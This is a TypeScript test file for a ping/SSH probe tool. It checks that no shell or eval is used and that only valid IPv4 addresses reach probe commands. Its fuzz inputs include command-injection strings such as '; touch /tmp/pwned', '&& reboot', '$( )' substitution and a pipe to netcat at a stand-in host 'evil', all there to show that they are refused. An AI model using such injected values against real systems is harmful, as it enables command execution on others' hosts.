/**
 * No shell anywhere a target reaches. The source is read as text: the local probe runs `ping` with
 * execFile, an argument array and `shell: false`; the only other process started is node itself (the
 * benchmark); nothing evaluates code. Over SSH the remote command is built from the IP alone, checked as a dotted quad.
 * The gates themselves are tried with generated input. (Pinned SSH host keys:
 * test/integration/adapters/probe-ssh.test.ts, "refuses a scanner whose host key does not match the pin".)
 */
import { readdirSync, readFileSync, statSync } from 'node:fs';
import { join } from 'node:path';
import fc from 'fast-check';
import { LocalProbe } from '../../../src/integrations/probe/local-probe.js';
import {
  BATCH_SCRIPT,
  batchProbeCommand,
  pingCommand,
  tcp22Command,
} from '../../../src/integrations/probe/probe-commands.js';
import { assertProbeTarget } from '../../../src/integrations/probe/probe-target.js';
import { isIPv4 } from '../../../src/runbook/ip.js';

function sources(dir: string): string[] {
  return readdirSync(dir).flatMap((name) => {
    const path = join(dir, name);
    return statSync(path).isDirectory() ? sources(path) : path.endsWith('.ts') ? [path] : [];
  });
}

const files = [
  ...sources('src'),
  ...sources('sandbox'),
  ...sources('bin').filter((f) => f.endsWith('.ts')),
].map((path) => ({ path, code: readFileSync(path, 'utf8') }));
const LOCAL_PROBE = 'src/integrations/probe/local-probe.ts';
const BENCH = 'src/cli/commands/bench.ts';
const BOT_PROCESS = 'src/bench/bot-process.ts';

describe('no shell', () => {
  it('starts processes in three files only, none through a shell', () => {
    const spawning = files.filter(({ code }) =>
      /from ['"](?:node:)?child_process['"]|require\(['"](?:node:)?child_process/.test(code),
    );
    expect(spawning.map((f) => f.path).sort()).toEqual([BOT_PROCESS, BENCH, LOCAL_PROBE]);
    for (const { code } of spawning) {
      expect(code).not.toMatch(/\b(?:exec|execSync|spawnSync|fork)\s*\(/);
      expect(code).not.toMatch(/shell:\s*true/);
    }
    // The benchmark starts this program again (node itself, for a sweep size or as the bot's own
    // process); no target, no user text reaches its arguments.
    for (const path of [BENCH, BOT_PROCESS]) {
      const code = spawning.find((f) => f.path === path)?.code ?? '';
      const spawns = [...code.matchAll(/\bspawn\(\s*([^,]+),/g)].map((m) => m[1]);
      expect([path, spawns.length > 0]).toEqual([path, true]);
      for (const program of spawns) expect(program).toBe('process.execPath');
    }
  });

  it('runs ping there with execFile, an argument array and shell: false, and nothing else', () => {
    const code = files.find((f) => f.path === LOCAL_PROBE)?.code ?? '';
    expect(code).toMatch(/import \{ execFile \} from 'node:child_process';/);
    expect(code).not.toMatch(/\b(?:exec|execSync|execFileSync|spawn|spawnSync|fork)\s*\(/);
    expect(code).not.toMatch(/shell:\s*true/);
    const calls = [...code.matchAll(/execFile\(\s*([^,]+),\s*(\[[^\]]*\]),\s*\{([^}]*)\}/g)];
    expect(calls).toHaveLength(1);
    expect(calls[0]?.[2]).toMatch(/^\['-c', '1', '-W', waitSeconds, ip\]$/);
    expect(calls[0]?.[3]).toMatch(/shell: false/);
  });

  it('evaluates no code and builds no shell string anywhere', () => {
    for (const { path, code } of files) {
      expect({ path, hit: /\beval\s*\(|new Function\s*\(|shell:\s*true/.exec(code)?.[0] ?? null }).toEqual({
        path,
        hit: null,
      });
    }
  });

  it('sends over SSH only the commands built from a checked IP', () => {
    const remote = files
      .filter(({ code }) => /\.exec\(\s*command\b|client\.exec\(/.test(code))
      .map((f) => f.path);
    expect(remote).toEqual(['src/integrations/probe/scanner-connection.ts']);
    const callers = files
      .filter(({ code }) => /\b(?:pingCommand|tcp22Command|batchProbeCommand)\(/.test(code))
      .map((f) => f.path)
      .filter((path) => !path.endsWith('probe-commands.ts'));
    expect(callers).toEqual(['src/integrations/probe/ssh-probe.ts']);
  });
});

describe('the gates an IP passes before a probe', () => {
  const anything = fc.oneof(
    fc.string(),
    fc
      .ipV4()
      .chain((ip) =>
        fc.constantFrom(
          `${ip}; touch /tmp/pwned`,
          `${ip} && reboot`,
          `$(${ip})`,
          `\`${ip}\``,
          `${ip}\n`,
          ` ${ip}`,
          `-f ${ip}`,
          `${ip}|nc evil 1`,
          `${ip}/32`,
        ),
      ),
  );

  it('refuse everything but a dotted-quad IPv4 address, and pass that one through as it is', () => {
    fc.assert(
      fc.property(anything, (input) => {
        if (isIPv4(input)) return;
        expect(() => assertProbeTarget(input, 'prod-dal09-infra-nessus-01')).toThrow(/refusing to probe/);
        expect(() => pingCommand(input)).toThrow(/refusing to build a probe command/);
        expect(() => tcp22Command(input)).toThrow(/refusing to build a probe command/);
        // A batch with one bad IP among good ones is refused whole.
        expect(() => batchProbeCommand(['10.0.0.1', input, '10.0.0.2'], 8)).toThrow(
          /refusing to build a probe command/,
        );
      }),
      { numRuns: 300 },
    );
    fc.assert(
      fc.property(fc.ipV4(), (ip) => {
        expect(pingCommand(ip)).toBe(`ping -c 1 -W 2 ${ip}`);
        expect(tcp22Command(ip)).toBe(`nc -zv -w 3 ${ip} 22`);
      }),
      { numRuns: 100 },
    );
    // The batch command: the checked IPs and a whole number are its only variable parts; the
    // script xargs runs is fixed text, and takes the IP as an argument, never as script text.
    expect(BATCH_SCRIPT).not.toMatch(/'/);
    fc.assert(
      fc.property(
        fc.uniqueArray(fc.ipV4(), { minLength: 1, maxLength: 20 }),
        fc.integer({ min: 1, max: 256 }),
        (ips, parallelism) => {
          expect(batchProbeCommand(ips, parallelism)).toBe(
            `printf '%s\\n' ${ips.join(' ')} | xargs -n 1 -P ${parallelism} sh -c '${BATCH_SCRIPT}' probe`,
          );
        },
      ),
      { numRuns: 100 },
    );
    expect(BATCH_SCRIPT).toBe(
      'ping -c 1 -W 2 "$1" >/dev/null 2>&1 & p=$!; nc -zv -w 3 "$1" 22 >/dev/null 2>&1; n=$?; wait $p; r=$?; ' +
        'printf "%s ping %s\\n%s tcp22 %s\\n" "$1" "$r" "$1" "$n"',
    );
    for (const parallelism of [0, 1.5, 257, Number.NaN]) {
      expect(() => batchProbeCommand(['10.0.0.1'], parallelism)).toThrow(/parallelism/);
    }
    expect(() => batchProbeCommand([], 8)).toThrow(/1 to 1000 IPs/);
    expect(() => batchProbeCommand(['10.0.0.1', '10.0.0.1'], 8)).toThrow(/names an IP twice/);
  });

  it('stop a crafted IP before any process starts', async () => {
    // A ping that does not exist: had the probe started a process, it would report it missing.
    const probe = new LocalProbe({ pingPath: '/nonexistent/ping', timeoutMs: 100 });
    await expect(probe.probe('127.0.0.1; touch /tmp/pwned', 'scanner-1')).rejects.toThrow(
      /refusing to probe "127.0.0.1; touch \/tmp\/pwned": not an IPv4 address/,
    );
    await expect(probe.probe('127.0.0.1', 'scanner; reboot')).rejects.toThrow(/not a scanner name/);
  });
});
